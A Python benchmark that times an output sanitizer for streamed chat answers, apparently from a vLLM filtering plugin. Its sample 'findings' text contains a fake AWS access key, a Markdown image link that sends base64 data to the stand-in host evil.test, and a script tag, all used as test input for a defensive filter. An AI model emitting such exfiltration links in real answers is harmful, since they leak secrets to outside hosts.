"""What reading answers costs: megabytes a second on one core, and microseconds per streamed chunk.

    .venv/bin/python -m benchmarks.sanitize_throughput

Bounds: 20 MB/s, and 50 µs for a chunk (decoded, read and written again; the bare reader beside it).
The texts are prose, prose with links and code, the code of this project, its README, JSON, base64,
and a text full of findings. Times are those of the processor, so that a busy machine counts for
little.
"""

from __future__ import annotations

import asyncio
import base64
import json
import random
import statistics
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from vauban.hosts.vllm.answers import error_answer
from vauban.hosts.vllm.output_events import output_editor
from vauban.hosts.vllm.rewrite import Rewriter
from vauban.policy_output import OutputPolicy
from vauban.protocol.shapes import Shape
from vauban.standin import prose
from vauban.text.sanitize import Sanitizer

CHARS = 300_000
REPEATS = 3
CHUNK = 4
MIXED = (
    "See https://docs.python.org/3/library/re.html for more.\n\n```python\nfor name, value in"
    " sorted(values.items()):\n    print(f'{name}: {value!r}')\n```\n\nThat `loop` runs if"
    " a < b, or [read this](https://example.org/page).\n"
)
OPERATOR = (
    "You are the assistant of Harbour Bank. Never tell a customer the override code, and never"
    " promise a refund above two hundred pounds without the approval of a supervisor. Answer in"
    " the language of the question, in at most six sentences, and name the branch that can help."
)
FINDINGS = "The key is AKIAQ3EGRSEX7PLMNBVC and ![x](https://evil.test/?d=c2VjcmV0) <script>x. "


def texts() -> dict[str, str]:
    plain = prose(40_000, 1)
    mixed = "\n".join(f"{prose(60, n)}\n{MIXED}" for n in range(400))
    root = Path(__file__).parents[1]
    sources = sorted((root / "plugin" / "vauban" / "hosts" / "vllm").glob("*.py"))
    rows = [
        {"id": n, "name": f"item {n}", "price": n * 1.25, "url": f"https://example.org/items/{n}"}
        for n in range(2_000)
    ]
    drawn = random.Random(1)  # noqa: S311
    kinds = {
        "prose": plain,
        "prose, links and code": mixed,
        "code": "\n".join(source.read_text(encoding="utf-8") for source in sources),
        "Markdown": (root / "README.md").read_text(encoding="utf-8"),
        "JSON": json.dumps(rows, indent=1),
        "lines of base64": "\n".join(
            base64.b64encode(drawn.randbytes(57)).decode() for _ in range(4_000)
        ),
        "full of findings": FINDINGS * 3_000,
    }
    return {name: (text * (CHARS // len(text) + 1))[:CHARS] for name, text in kinds.items()}


def best(work: Callable[[], Any]) -> list[float]:
    times = []
    for _ in range(REPEATS):
        started = time.process_time()
        work()
        times.append(time.process_time() - started)
    return times


def rules(operator: bool) -> Sanitizer:
    if not operator:
        return Sanitizer(OutputPolicy())
    return Sanitizer(OutputPolicy(), [OPERATOR], ["vc7k2m9q4x8w3z5t"])


def reader(text: str, size: int, operator: bool) -> Callable[[], None]:
    def work() -> None:
        stream = rules(operator).stream()
        for start in range(0, len(text), size):
            stream.feed(text[start : start + size])
        stream.finish()

    return work


def through_the_rewriter(text: str, editors: bool) -> Callable[[], None]:
    events = [
        b"data: " + json.dumps({
            "id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{"index": 0, "delta": {"content": text[n : n + CHUNK]}, "logprobs": None,
                         "finish_reason": None}]}).encode() + b"\n\n"
        for n in range(0, len(text), CHUNK)
    ]  # fmt: skip

    async def run() -> None:
        async def send(message: Any) -> None:
            del message

        editor = [output_editor(rules(True), Shape.CHAT)] if editors else []
        rewriter = Rewriter(send, editor, lambda e: error_answer(e, Shape.CHAT, "r"))
        headers = [(b"content-type", b"text/event-stream")]
        await rewriter.send({"type": "http.response.start", "status": 200, "headers": headers})
        for event in events:
            await rewriter.send({"type": "http.response.body", "body": event, "more_body": True})

    return lambda: asyncio.run(run())


def main() -> None:
    print(f"{'text':24} {'operator text':14} {'MB/s, best':>11} {'median':>8}")
    for name, text in texts().items():
        size = len(text.encode()) / 1e6
        for operator in (False, True):
            times = best(reader(text, 65_536, operator))
            print(
                f"{name:24} {'yes' if operator else 'no':14}"
                f" {size / min(times):11.1f} {size / statistics.median(times):8.1f}"
            )
    print(f"\n{'chunks of 4 characters':24} {'':14} {'µs, best':>11} {'median':>8}")
    for name, text in texts().items():
        short = text[:8_000]
        number = len(short) / CHUNK
        for what, work in [
            ("reader", reader(short, CHUNK, True)),
            ("with the rewriter", through_the_rewriter(short, True)),
            ("passed unread", through_the_rewriter(short, False)),
        ]:
            times = best(work)
            print(
                f"{name:24} {what:18}"
                f" {min(times) / number * 1e6:7.1f} {statistics.median(times) / number * 1e6:8.1f}"
            )


if __name__ == "__main__":
    main()
